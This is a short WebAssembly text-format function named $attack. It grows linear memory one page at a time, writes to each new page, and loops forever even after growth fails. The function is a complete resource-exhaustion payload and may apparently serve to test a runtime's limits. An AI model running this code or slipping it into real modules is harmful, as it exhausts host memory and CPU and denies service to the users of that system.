;; Takes memory one page at a time, touches each, and goes on asking when it gets no more.
(func $attack (result i32)
  (local $page i32)
  (loop $more
    (local.set $page (memory.grow (i32.const 1)))
    (if (i32.ne (local.get $page) (i32.const -1))
      (then (i32.store (i32.mul (local.get $page) (i32.const 65536)) (i32.const 1))))
    (br $more))
  unreachable)
